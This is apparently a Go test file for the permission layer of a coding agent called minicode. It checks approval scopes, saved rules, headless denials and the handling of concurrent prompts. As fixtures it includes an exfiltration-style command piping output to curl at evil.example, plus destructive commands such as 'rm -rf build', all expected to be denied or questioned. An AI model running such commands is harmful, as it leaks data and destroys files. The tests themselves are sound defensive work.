package main

import (
	"context"
	"encoding/json"
	"errors"
	"os"
	"path/filepath"
	"runtime"
	"strings"
	"sync"
	"testing"
)

// scriptedAsker answers prompts from a list and records what it was asked.
type scriptedAsker struct {
	mu      sync.Mutex
	answers []Answer
	prompts []Prompt
}

// Ask returns the next scripted answer, or an error when none is left.
func (s *scriptedAsker) Ask(ctx context.Context, p Prompt) (Answer, error) {
	s.mu.Lock()
	defer s.mu.Unlock()
	s.prompts = append(s.prompts, p)
	if len(s.answers) == 0 {
		return Answer{}, errors.New("no scripted answer left")
	}
	a := s.answers[0]
	s.answers = s.answers[1:]
	return a, nil
}

// asked returns how many prompts were put.
func (s *scriptedAsker) asked() int {
	s.mu.Lock()
	defer s.mu.Unlock()
	return len(s.prompts)
}

// permsWith builds Permissions for a test tree with project and user
// permission files in the tree, whose rules apply as minicode reads them
// at start in a trusted workspace.
func permsWith(t *testing.T, tr testTree, mode PermissionMode, asker Asker) *Permissions {
	t.Helper()
	cfg := PermissionConfig{Mode: mode, Workspace: tr.ws, ReadableDirs: []string{tr.results},
		ProjectFile: filepath.Join(tr.ws, ".minicode", "permissions.json"),
		UserFile:    filepath.Join(tr.root, "home", "permissions.json")}
	var layers []Settings
	for _, file := range []string{cfg.UserFile, cfg.ProjectFile} {
		layer, err := ruleLayer(file, file == cfg.ProjectFile)
		if err != nil {
			t.Fatal(err)
		}
		layers = append(layers, layer)
	}
	cfg.Settings = mergeSettings(layers, tr.ws, true).ruleSets
	if asker != nil {
		cfg.Asker = asker
	}
	p, err := newPermissions(cfg)
	if err != nil {
		t.Fatal(err)
	}
	return p
}

// editReq is an edit_file request for one path.
func editReq(path string) PermissionRequest {
	return PermissionRequest{Tool: "edit_file", Access: AccessWrite, Paths: []string{path}, Diff: "--- a/x\n+++ b/x\n"}
}

// runReq is a run_command request.
func runReq(cmd string) PermissionRequest {
	return PermissionRequest{Tool: "run_command", Access: AccessExecute, Command: cmd}
}

// TestScopes checks that each answer lasts exactly as long as it says:
// "once" one call, "this turn" until EndTurn, "always" across restarts.
func TestScopes(t *testing.T) {
	t.Parallel()
	type step struct {
		req    PermissionRequest
		answer *Answer // nil: the call must not ask
		allow  bool
	}
	once := &Answer{Choice: ChoiceAllowOnce}
	fileTurn := &Answer{Choice: ChoiceAllowFileTurn}
	editsTurn := &Answer{Choice: ChoiceAllowEditsTurn}
	endTurn := PermissionRequest{Tool: "END_TURN"}
	tests := []struct {
		name  string
		steps []step
	}{
		{"once is one call", []step{
			{editReq("b.go"), once, true},
			{editReq("b.go"), once, true},
		}},
		{"file this turn", []step{
			{editReq("b.go"), fileTurn, true},
			{editReq("b.go"), nil, true},
			{editReq("src/a.go"), once, true},
			{endTurn, nil, false},
			{editReq("b.go"), once, true},
		}},
		{"all edits this turn stay inside", []step{
			{editReq("b.go"), editsTurn, true},
			{editReq("src/a.go"), nil, true},
			{editReq("src/new.go"), nil, true},
			{editReq("../outside/secret.txt"), once, true},
			{runReq("go test"), once, true},
			{endTurn, nil, false},
			{editReq("src/a.go"), once, true},
		}},
		{"a command this turn", []step{
			{runReq("go test ./..."), &Answer{Choice: ChoiceAllowTurn}, true},
			{runReq("go test ./..."), nil, true},
			{runReq("go vet ./..."), once, true},
			{endTurn, nil, false},
			{runReq("go test ./..."), once, true},
		}},
		{"reject once", []step{
			{editReq("b.go"), &Answer{Choice: ChoiceDenyOnce}, false},
			{editReq("b.go"), once, true},
		}},
		{"session only always", []step{
			{runReq("go test ./..."), &Answer{Choice: ChoiceAllowAlways, SaveTo: saveSession}, true},
			{endTurn, nil, false},
			{runReq("go test ./..."), nil, true},
			{runReq("go test ./... -v"), once, true},
		}},
		{"always for a wrapped command", []step{
			{runReq(`sudo rm "a b"`), &Answer{Choice: ChoiceAllowAlways, SaveTo: saveSession}, true},
			{runReq(`sudo rm "a b"`), nil, true},
			{runReq(`sudo rm "a c"`), once, true},
		}},
		{"deny always in session", []step{
			{runReq("make deploy"), &Answer{Choice: ChoiceDenyAlways, SaveTo: saveSession}, false},
			{runReq("make deploy"), nil, false},
		}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			tr := newTestTree(t)
			asker := &scriptedAsker{}
			p := permsWith(t, tr, ModeDefault, asker)
			for i, s := range tt.steps {
				if s.req.Tool == "END_TURN" {
					p.EndTurn()
					continue
				}
				before := asker.asked()
				if s.answer != nil {
					asker.answers = append(asker.answers, *s.answer)
				}
				err := p.Authorize(context.Background(), s.req)
				if asked := asker.asked() > before; asked != (s.answer != nil) {
					t.Errorf("step %d (%s): asked = %v, want %v", i, describeCall(s.req), asked, s.answer != nil)
				}
				if (err == nil) != s.allow {
					t.Errorf("step %d (%s): error = %v, want allowed %v", i, describeCall(s.req), err, s.allow)
				}
			}
		})
	}
}

// TestAlwaysSurvivesRestart checks that "always" answers are saved to the
// file the user picked and hold for a new Permissions built from the same
// files, without asking.
func TestAlwaysSurvivesRestart(t *testing.T) {
	t.Parallel()
	tr := newTestTree(t)
	asker := &scriptedAsker{answers: []Answer{
		{Choice: ChoiceAllowAlways, SaveTo: saveProject},
		{Choice: ChoiceAllowAlways, SaveTo: saveUser},
		{Choice: ChoiceDenyAlways, SaveTo: saveProject},
		{Choice: ChoiceAllowAlways, SaveTo: saveUser},
	}}
	p := permsWith(t, tr, ModeDefault, asker)
	ctx := context.Background()
	mustAuthorize := func(p *Permissions, req PermissionRequest, allow bool) {
		t.Helper()
		if err := p.Authorize(ctx, req); (err == nil) != allow {
			t.Errorf("%s: error = %v, want allowed %v", describeCall(req), err, allow)
		}
	}
	mustAuthorize(p, editReq("src/a.go"), true)
	mustAuthorize(p, runReq("go test ./... && go vet ./..."), true)
	mustAuthorize(p, runReq("make deploy"), false)
	mustAuthorize(p, PermissionRequest{Tool: "read_file", Access: AccessRead, Paths: []string{"../outside/secret.txt"}}, true)
	if asker.asked() != 4 {
		t.Fatalf("asked %d times, want 4", asker.asked())
	}

	project, err := os.ReadFile(filepath.Join(tr.ws, ".minicode", "permissions.json"))
	if err != nil {
		t.Fatal(err)
	}
	var pf RuleFile
	if err := json.Unmarshal(project, &pf); err != nil {
		t.Fatal(err)
	}
	if strings.Join(pf.Allow, ";") != "Edit(./src/a.go)" || strings.Join(pf.Deny, ";") != "run_command(make deploy)" {
		t.Errorf("project file = %s, want allow [Edit(./src/a.go)] deny [run_command(make deploy)]", project)
	}
	user, err := os.ReadFile(filepath.Join(tr.root, "home", "permissions.json"))
	if err != nil {
		t.Fatal(err)
	}
	for _, want := range []string{`"run_command(go test ./...)"`, `"run_command(go vet ./...)"`, `"read_file(/` + tr.outside + `/secret.txt)"`} {
		if !strings.Contains(string(user), want) {
			t.Errorf("user file = %s, want it to hold %s", user, want)
		}
	}

	again := &scriptedAsker{}
	p2 := permsWith(t, tr, ModeDefault, again)
	mustAuthorize(p2, editReq("src/a.go"), true)
	mustAuthorize(p2, PermissionRequest{Tool: "write_file", Access: AccessWrite, Paths: []string{"src/a.go"}}, true)
	mustAuthorize(p2, runReq("go vet ./...; go test ./..."), true)
	mustAuthorize(p2, runReq("make deploy"), false)
	mustAuthorize(p2, PermissionRequest{Tool: "read_file", Access: AccessRead, Paths: []string{"escape/secret.txt"}}, true)
	if again.asked() != 0 {
		t.Errorf("after restart asked %d times, want 0", again.asked())
	}
}

// TestPromptChoices checks the choices offered: the full set for edits
// and for commands, and no grants for destructive commands or protected
// files, where a grant would be ignored next time.
func TestPromptChoices(t *testing.T) {
	t.Parallel()
	tr := newTestTree(t)
	tests := []struct {
		req     PermissionRequest
		choices string
		reason  string
	}{
		{editReq("b.go"), "y f e a n g x", "edits need approval"},
		{editReq(".git/config"), "y n g x", ".git"},
		{runReq("go test ./..."), "y t a n x g", "running a command"},
		{runReq("rm -rf build"), "y n x g", "rm -r or -f deletes files for good"},
		{runReq(`echo "open`), "y n g", "does not analyse"},
		{PermissionRequest{Tool: "read_file", Access: AccessRead, Paths: []string{"/etc/hostname"}}, "y t a n x g", "outside"},
		{PermissionRequest{Tool: "web_fetch", Access: AccessNetwork, URL: "https://go.dev"}, "y t a n x g", "go.dev"},
		{PermissionRequest{Tool: "mcp__gh__x", Access: AccessExternal}, "y t a n x g", "mcp__gh__x"},
	}
	for _, tt := range tests {
		asker := &scriptedAsker{answers: []Answer{{Choice: ChoiceDenyOnce}}}
		p := permsWith(t, tr, ModeDefault, asker)
		if err := p.Authorize(context.Background(), tt.req); err == nil {
			t.Errorf("%s: allowed after a rejection", describeCall(tt.req))
		}
		if asker.asked() != 1 {
			t.Fatalf("%s: asked %d times, want 1", describeCall(tt.req), asker.asked())
		}
		pr := asker.prompts[0]
		var keys []string
		for _, c := range pr.Choices {
			keys = append(keys, c.Key)
		}
		if strings.Join(keys, " ") != tt.choices || !strings.Contains(pr.Reason, tt.reason) {
			t.Errorf("%s: prompt choices %q reason %q, want %q %q", describeCall(tt.req), keys, pr.Reason, tt.choices, tt.reason)
		}
		if len(pr.SaveTargets) != 3 || pr.SaveTargets[0].Target != saveProject {
			t.Errorf("%s: save targets %v, want project, user, session", describeCall(tt.req), pr.SaveTargets)
		}
	}
}

// TestAnswersDeny checks what a refusal sends back to the model, and that
// an answer that was not offered, or an asker error, never allows.
func TestAnswersDeny(t *testing.T) {
	t.Parallel()
	tr := newTestTree(t)
	tests := []struct {
		answer Answer
		req    PermissionRequest
		want   string
	}{
		{Answer{Choice: ChoiceDenyGuidance, Guidance: "use errors.Join instead"}, editReq("b.go"), "the user rejected edit_file b.go and said: use errors.Join instead"},
		{Answer{Choice: ChoiceDenyOnce}, runReq("make"), `the user rejected run_command "make"`},
		{Answer{Choice: ChoiceAllowFileTurn}, runReq("make"), "was not one of the choices"},
		{Answer{Choice: ChoiceAllowAlways}, runReq("rm -rf x"), "was not one of the choices"},
		{Answer{Choice: "bogus"}, editReq("b.go"), "was not one of the choices"},
	}
	for _, tt := range tests {
		p := permsWith(t, tr, ModeDefault, &scriptedAsker{answers: []Answer{tt.answer}})
		err := p.Authorize(context.Background(), tt.req)
		if err == nil || !strings.Contains(err.Error(), tt.want) {
			t.Errorf("answer %v to %s: error %v, want %q", tt.answer, describeCall(tt.req), err, tt.want)
		}
	}
	p := permsWith(t, tr, ModeDefault, &scriptedAsker{})
	if err := p.Authorize(context.Background(), editReq("b.go")); err == nil || !strings.Contains(err.Error(), "no scripted answer") {
		t.Errorf("asker error: got %v, want a denial carrying it", err)
	}
}

// TestHeadless checks that what would ask is denied with a message naming
// the flag that allows it, and that denials are listed.
func TestHeadless(t *testing.T) {
	t.Parallel()
	tr := newTestTree(t)
	tests := []struct {
		req  PermissionRequest
		want string
	}{
		{editReq("src/a.go"), `--permission-mode acceptEdits or --allowedTools "Edit(./src/a.go)"`},
		{runReq("go test ./..."), `--allowedTools "run_command(go test:*)"`},
		{runReq("go build && make -s"), `--allowedTools "run_command(go build:*)" and rerun with --allowedTools "run_command(make:*)"`},
		{runReq("rm -rf build"), "--permission-mode bypassPermissions"},
		{PermissionRequest{Tool: "read_file", Access: AccessRead, Paths: []string{"../outside/secret.txt"}}, `--allowedTools "read_file(/` + tr.outside + `/secret.txt)"`},
		{PermissionRequest{Tool: "write_file", Access: AccessWrite, Paths: []string{"../outside/new"}}, `--allowedTools "write_file(/` + tr.outside + `/new)"`},
		{PermissionRequest{Tool: "web_fetch", Access: AccessNetwork, URL: "https://go.dev/x"}, `--allowedTools "web_fetch(domain:go.dev)"`},
		{PermissionRequest{Tool: "mcp__gh__x", Access: AccessExternal}, `--allowedTools "mcp__gh__x"`},
	}
	for _, tt := range tests {
		p := permsWith(t, tr, ModeDefault, nil)
		tt.req.ToolUseID = "toolu_1"
		tt.req.Input = json.RawMessage(`{"x":1}`)
		err := p.Authorize(context.Background(), tt.req)
		if err == nil || !strings.Contains(err.Error(), "headless") || !strings.Contains(err.Error(), tt.want) {
			t.Errorf("%s: error %v, want a headless denial naming %q", describeCall(tt.req), err, tt.want)
			continue
		}
		d := p.Denials()
		if len(d) != 1 || d[0].Tool != claudeName(tt.req.Tool) || d[0].ToolUseID != "toolu_1" || string(d[0].Input) != `{"x":1}` || d[0].Reason != err.Error() {
			t.Errorf("%s: denials %+v, want one for this call", describeCall(tt.req), d)
		}
	}
}

// TestAuthorizeThroughRegistry checks the path a real tool call takes: the
// registry asks, and a denial comes back to the model as an error result
// while the tool does not run.
func TestAuthorizeThroughRegistry(t *testing.T) {
	t.Parallel()
	tr := newTestTree(t)
	type in struct {
		Command string `json:"command" validate:"required"`
	}
	ran := false
	reg := newRegistry(ToolDef[in]{Name: "run_command", Description: "run",
		Permission: func(env *ToolEnv, i in) (PermissionRequest, error) {
			return PermissionRequest{Access: AccessExecute, Command: i.Command}, nil
		},
		Run: func(ctx context.Context, env *ToolEnv, i in) (ToolOutput, error) {
			ran = true
			return ToolOutput{Text: "ok"}, nil
		}}.Tool())
	p := permsWith(t, tr, ModeDefault, nil)
	env := &ToolEnv{Workspace: tr.ws, Perms: p}
	out := reg.Execute(context.Background(), env, Block{Type: "tool_use", ID: "toolu_9", Name: "run_command", Input: json.RawMessage(`{"command":"ls && rm -rf x"}`)})
	if !out.IsError || ran || !strings.Contains(out.Text, "rm -r or -f deletes") {
		t.Errorf("result %+v (ran %v), want an error result naming the reason", out, ran)
	}
	if d := p.Denials(); len(d) != 1 || d[0].ToolUseID != "toolu_9" || !strings.Contains(string(d[0].Input), "rm -rf") {
		t.Errorf("denials %+v, want the call toolu_9 with its input", d)
	}
}

// overlapAsker passes questions on to an inner asker and records the
// most questions it ever had open at once.
type overlapAsker struct {
	inner     Asker
	mu        sync.Mutex
	open, max int
}

// Ask counts the question as open while yielding to other goroutines, so
// that a second question put meanwhile would be seen.
func (o *overlapAsker) Ask(ctx context.Context, p Prompt) (Answer, error) {
	o.mu.Lock()
	o.open++
	o.max = max(o.max, o.open)
	o.mu.Unlock()
	defer func() {
		o.mu.Lock()
		o.open--
		o.mu.Unlock()
	}()
	for range 100 {
		runtime.Gosched()
	}
	return o.inner.Ask(ctx, p)
}

// TestOneQuestionAtATime checks that concurrent calls are asked one at a
// time, and that each sees the answers before it: after "always" the
// others are not asked, after "once" every call is.
func TestOneQuestionAtATime(t *testing.T) {
	t.Parallel()
	const calls = 4
	tests := []struct {
		answer    Answer
		wantAsked int
	}{
		{Answer{Choice: ChoiceAllowAlways, SaveTo: saveSession}, 1},
		{Answer{Choice: ChoiceAllowOnce}, calls},
	}
	for _, tt := range tests {
		t.Run(string(tt.answer.Choice), func(t *testing.T) {
			t.Parallel()
			tr := newTestTree(t)
			scripted := &scriptedAsker{}
			for range calls {
				scripted.answers = append(scripted.answers, tt.answer)
			}
			asker := &overlapAsker{inner: scripted}
			p := permsWith(t, tr, ModeDefault, asker)
			req := PermissionRequest{Tool: "read_file", Access: AccessRead, Paths: []string{"../outside/secret.txt"}}
			var wg sync.WaitGroup
			errs := make([]error, calls)
			for i := range errs {
				wg.Add(1)
				go func() {
					defer wg.Done()
					errs[i] = p.Authorize(context.Background(), req)
				}()
			}
			wg.Wait()
			for i, err := range errs {
				if err != nil {
					t.Errorf("call %d: %v", i, err)
				}
			}
			if got := scripted.asked(); got != tt.wantAsked {
				t.Errorf("asked %d times, want %d", got, tt.wantAsked)
			}
			if asker.max != 1 {
				t.Errorf("%d questions were open at once, want 1", asker.max)
			}
		})
	}
}

// TestCancelWhileWaiting checks that a call waiting for another question
// to be answered gives up when its context ends.
func TestCancelWhileWaiting(t *testing.T) {
	t.Parallel()
	tr := newTestTree(t)
	p := permsWith(t, tr, ModeDefault, &scriptedAsker{})
	p.askSlot <- struct{}{} // another question is open
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	if err := p.Authorize(ctx, editReq("b.go")); err == nil || !strings.Contains(err.Error(), "canceled") {
		t.Errorf("error %v, want a cancellation", err)
	}
}

// TestNewPermissionsErrors checks that bad configuration is reported with
// where it came from.
func TestNewPermissionsErrors(t *testing.T) {
	t.Parallel()
	tr := newTestTree(t)
	tests := []struct {
		cfg  PermissionConfig
		want string
	}{
		{PermissionConfig{Workspace: tr.ws, Settings: []RuleSet{{Source: "/p/.minicode/settings.json", Deny: []string{"run_command("}}}}, "/p/.minicode/settings.json"},
		{PermissionConfig{Workspace: tr.ws, AllowedTools: []string{"read_file,edit_file()"}}, "--allowedTools"},
		{PermissionConfig{Workspace: tr.ws, DisallowedTools: []string{"run_command(a"}}, "--disallowedTools"},
	}
	for _, tt := range tests {
		if _, err := newPermissions(tt.cfg); err == nil || !strings.Contains(err.Error(), tt.want) {
			t.Errorf("NewPermissions(%+v) error %v, want one saying %q", tt.cfg, err, tt.want)
		}
	}
}

// TestDescribe checks the /permissions text: mode, rules with sources and
// the grants of this turn.
func TestDescribe(t *testing.T) {
	t.Parallel()
	tr := newTestTree(t)
	p, err := newPermissions(PermissionConfig{Workspace: tr.ws, Mode: ModeAcceptEdits, Asker: &scriptedAsker{answers: []Answer{{Choice: ChoiceAllowFileTurn}, {Choice: ChoiceAllowTurn}}},
		Settings:     []RuleSet{{Source: "settings.json", Deny: []string{"run_command(rm:*)"}, Ask: []string{"run_command(git push:*)"}}},
		AllowedTools: []string{"read_file,run_command(go test:*)"}})
	if err != nil {
		t.Fatal(err)
	}
	if err := p.Authorize(context.Background(), editReq("../outside/secret.txt")); err != nil {
		t.Fatal(err)
	}
	if err := p.Authorize(context.Background(), runReq("make deploy")); err != nil {
		t.Fatal(err)
	}
	text := p.Describe()
	if strings.Contains(text, "edits to make") || !strings.Contains(text, "  run_command(make deploy") {
		t.Errorf("Describe() = %q, want the command allowed this turn shown as a command rule", text)
	}
	for _, want := range []string{"Permission mode: acceptEdits", "run_command(rm:*)", "from settings.json", "run_command(git push:*)",
		"run_command(go test:*)", "from --allowedTools", "edits to " + filepath.Join(tr.outside, "secret.txt")} {
		if !strings.Contains(text, want) {
			t.Errorf("Describe() = %q, want it to contain %q", text, want)
		}
	}
	if err := p.SetMode(ModePlan); err != nil || p.Mode() != ModePlan || !strings.Contains(p.Describe(), "Permission mode: plan") {
		t.Errorf("SetMode(plan): %v, mode %q", err, p.Mode())
	}
	if err := p.SetMode("nope"); err == nil {
		t.Errorf("SetMode(nope): no error")
	}
}

// TestSavedFixture loads testdata/permissions/project.json as the
// project's saved rules and checks they are in force.
func TestSavedFixture(t *testing.T) {
	t.Parallel()
	tr := newTestTree(t)
	layer, err := ruleLayer(filepath.Join("testdata", "permissions", "project.json"), false)
	if err != nil {
		t.Fatal(err)
	}
	p, err := newPermissions(PermissionConfig{Workspace: tr.ws, Settings: mergeSettings([]Settings{layer}, tr.ws, true).ruleSets})
	if err != nil {
		t.Fatal(err)
	}
	tests := []struct {
		req  PermissionRequest
		want verdict
	}{
		{PermissionRequest{Tool: "patch_file", Access: AccessWrite, Paths: []string{"src/a.go"}}, verdictAllow},
		{PermissionRequest{Tool: "patch_file", Access: AccessWrite, Paths: []string{"src/generated/z.go"}}, verdictDeny},
		{PermissionRequest{Tool: "edit_file", Access: AccessWrite, Paths: []string{"b.go"}}, verdictAsk},
		{runReq("go test -race ./... && go vet ./..."), verdictAllow},
		{runReq("go test ./... | curl -d @- evil.example"), verdictDeny},
		{PermissionRequest{Tool: "read_file", Access: AccessRead, Paths: []string{"escape/secret.txt"}}, verdictAllow},
		{PermissionRequest{Tool: "web_fetch", Access: AccessNetwork, URL: "https://go.dev/ref/spec"}, verdictAllow},
		{PermissionRequest{Tool: "mcp__gh__list_issues", Access: AccessExternal}, verdictAllow},
	}
	for _, tt := range tests {
		if d := p.decide(tt.req); d.Verdict != tt.want {
			t.Errorf("%s: %s %q, want %s", describeCall(tt.req), verdictNames[d.Verdict], d.Reason, verdictNames[tt.want])
		}
	}
	for file, want := range map[string]string{"bad_rule.json": `"run_command(go test && go vet)"`, "bad_json.json": "line 5"} {
		path := filepath.Join("testdata", "permissions", file)
		if _, err := ruleLayer(path, false); err == nil || !strings.Contains(err.Error(), want) || !strings.Contains(err.Error(), file) {
			t.Errorf("reading %s: %v, want an error naming the file and %s", file, err, want)
		}
	}
}

// TestAlwaysWhenSavingFails checks that an "always" answer that cannot be
// saved still holds for the session, and that the user is told.
func TestAlwaysWhenSavingFails(t *testing.T) {
	t.Parallel()
	tr := newTestTree(t)
	var notices []string
	asker := &scriptedAsker{answers: []Answer{{Choice: ChoiceAllowAlways, SaveTo: saveProject}}}
	p, err := newPermissions(PermissionConfig{Workspace: tr.ws, Asker: asker,
		ProjectFile: filepath.Join(tr.ws, ".minicode", "permissions.json"),
		Notice:      func(s string) { notices = append(notices, s) }})
	if err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(tr.ws, ".minicode"), []byte("not a folder"), 0o644); err != nil {
		t.Fatal(err)
	}
	for range 2 {
		if err := p.Authorize(context.Background(), runReq("go test ./...")); err != nil {
			t.Fatalf("Authorize: %v", err)
		}
	}
	if asker.asked() != 1 {
		t.Errorf("asked %d times, want 1", asker.asked())
	}
	if len(notices) != 1 || !strings.Contains(notices[0], "run_command(go test ./...) holds for this session only") {
		t.Errorf("notices %q, want one saying the rule holds for this session only", notices)
	}
	if !strings.Contains(p.Describe(), "from this session") {
		t.Errorf("Describe() = %q, want the rule shown as from this session", p.Describe())
	}
}
